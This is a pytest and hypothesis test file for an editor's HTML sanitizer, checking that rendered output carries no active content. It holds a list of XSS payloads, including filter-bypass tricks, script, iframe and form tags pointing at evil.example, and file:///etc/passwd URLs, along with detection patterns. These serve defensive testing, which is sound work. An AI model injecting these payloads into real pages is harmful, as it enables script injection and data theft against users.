"""Raw HTML policy: an allow-list; nothing that runs code or loads a frame ever leaves the renderer."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sr_editor.core.render.render import render_body
from sr_editor.core.render.sanitize import is_safe_url, sanitize_fragment

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "a\n\n<script>\nalert(1)\n\nstill inside\n</script>\n\nb",
    "text <script>alert(1)</script> inline",
    "<div><script>alert(1)</script></div>",
    "<div>\n<p><span><script>alert(1)</script></span></p>\n</div>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<script/src=x>",
    "<script\n>alert(1)</script\n>",
    "<iframe src=https://evil.example></iframe>",
    "<IFRAME SRC=javascript:alert(1)>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<img src=x onerror=alert(1)>",
    "<img src=x ONERROR=alert(1)>",
    '<img src="x" onerror  =  "alert(1)">',
    "<p onmouseover=alert(1)>hover</p>",
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="jav&#97;script&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![a](javascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=https://evil.example><input name=p><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<!-- <script>alert(1)</script> -->",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "* item <script>alert(1)</script>\n* two",
    "> quote\n>\n> <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "Note[^1]\n\n[^1]: <script>alert(1)</script>",
]

_DANGER = re.compile(
    r"<\s*/?\s*(script|iframe|style|object|embed|form|input|meta|base|link|svg|math)\b|<[^>]*\son\w+\s*=|"
    r"<[^>]*=\s*[\"']?\s*(javascript|vbscript|data):",
    re.IGNORECASE,
)


@pytest.mark.parametrize("body", HOSTILE)
def test_hostile_input_never_produces_active_html(body: str) -> None:
    html = render_body(body)
    assert _DANGER.search(html) is None, html


def test_allowed_inline_html_is_kept() -> None:
    assert render_body("H<sub>2</sub>O and E=mc<sup>2</sup>") == _paragraph("H<sub>2</sub>O and E=mc<sup>2</sup>")


def test_allowed_block_html_keeps_safe_attributes() -> None:
    html = render_body('<div class="note" id="n1" data-x="1" style="color:red">Hi <b>you</b></div>')
    assert html == '<!-- wp:html -->\n<div class="note" id="n1">Hi <b>you</b></div>\n<!-- /wp:html -->'


def test_unknown_tags_are_shown_as_text() -> None:
    assert render_body("a <blink>b</blink>") == _paragraph("a &lt;blink&gt;b&lt;/blink&gt;")


def test_html_comments_are_notes_and_not_published() -> None:
    assert render_body("a\n\n<!-- todo: check the numbers -->\n\nb") == _paragraph("a") + "\n\n" + _paragraph("b")


def test_block_that_was_only_a_script_leaves_no_empty_paragraph() -> None:
    assert render_body("a\n\n<script>x</script>\n\nb") == _paragraph("a") + "\n\n" + _paragraph("b")


def test_safe_links_keep_their_href() -> None:
    html = render_body("[a](https://x.example/p?q=1) [b](mailto:x@y.example) [c](#top) [d](page.html)")
    for href in ('https://x.example/p?q=1', 'mailto:x@y.example', '#top', 'page.html'):
        assert f'href="{href}"' in html


def test_entities_in_raw_html_survive() -> None:
    assert sanitize_fragment("<b>&amp; &eacute; &#233; &#x20AC;</b>") == "<b>&amp; &eacute; &#233; &#x20AC;</b>"


def test_bogus_entities_are_escaped() -> None:
    assert sanitize_fragment("<b>&nosuch; &#xZZ;</b>") == "<b>&amp;nosuch; &amp;#xZZ;</b>"


def test_unterminated_tag_is_text() -> None:
    assert "<a" not in sanitize_fragment('<b>x</b><a href="y"')


@pytest.mark.parametrize("url", ["https://a.example", "http://a", "mailto:a@b", "tel:+1", "/p", "p.jpg", "#x", "",
                                 "?q=1"])
def test_safe_urls(url: str) -> None:
    assert is_safe_url(url)


@pytest.mark.parametrize("url", ["javascript:x", " JavaScript:x", "java\nscript:x", "java\u200bscript:x",
                                 "&#106;avascript:x", "vbscript:x", "data:image/svg+xml,<svg>", "livescript:x",
                                 "file:///tmp/a.jpg", "FILE:///etc/passwd", " file:/etc/passwd", "fi&#108;e:///x",
                                 "fi\u200ble:///x"])
def test_unsafe_urls(url: str) -> None:
    assert not is_safe_url(url)


FILE_URLS = [
    "[notes](file:///home/writer/notes.txt)",
    "![A photo](file:///home/writer/Pictures/secret.jpg)",
    '![A photo](file:///etc/passwd "caption")',
    '<img src="file:///home/writer/secret.png" alt="x">',
    '<p><img src="FILE:///etc/passwd"></p>',
    '<a href="file:///home/writer/">home</a>',
    '<a href="fi&#108;e:///etc/passwd">x</a>',
    "[x][r]\n\n[r]: file:///etc/passwd",
    '<blockquote cite="file:///etc/passwd">q</blockquote>',
]


@pytest.mark.parametrize("body", FILE_URLS)
def test_file_urls_never_leave_the_renderer(body: str) -> None:
    html = render_body(body)
    assert "file:" not in html.lower() and "fi&#108;e" not in html


_PIECES = ["<", ">", "</", "/>", "script", "SCRIPT", "iframe", "style", "svg", "img", "a", "div", " ", "\n", "\n\n",
           "onerror", "onload", "=", '"', "'", "href", "src", "javascript:", "JaVaScRiPt:", "java\tscript:", "data:",
           "&#106;", "&colon;", "alert(1)", "!--", "-->", "[", "]", "(", ")", "!", "`", "x", "    ", "> ", "- "]


class _ActiveContentFinder(HTMLParser):
    """Independent oracle: what a browser would see as tags and attributes in the output."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"script", "iframe", "style", "object", "embed", "form", "input", "meta", "base", "link", "svg",
                   "math", "frame", "frameset", "applet", "template"}:
            self.found.append(tag)
        for name, value in attrs:
            cleaned = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name == "style":
                self.found.append(f"{tag}[{name}]")
            elif name in {"href", "src", "action", "formaction", "xlink:href", "data", "cite"} and cleaned.startswith(
                ("javascript:", "vbscript:", "data:")
            ):
                self.found.append(f"{tag}[{name}={value}]")


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=40).map("".join))
def test_random_tag_soup_never_produces_active_html(body: str) -> None:
    finder = _ActiveContentFinder()
    finder.feed(render_body(body))
    finder.close()
    assert finder.found == [], body


@pytest.mark.parametrize("body", HOSTILE)
def test_hostile_input_has_no_active_tags_or_attributes_for_a_browser(body: str) -> None:
    finder = _ActiveContentFinder()
    finder.feed(render_body(body))
    finder.close()
    assert finder.found == []


def _paragraph(inner: str) -> str:
    return f"<!-- wp:paragraph -->\n<p>{inner}</p>\n<!-- /wp:paragraph -->"
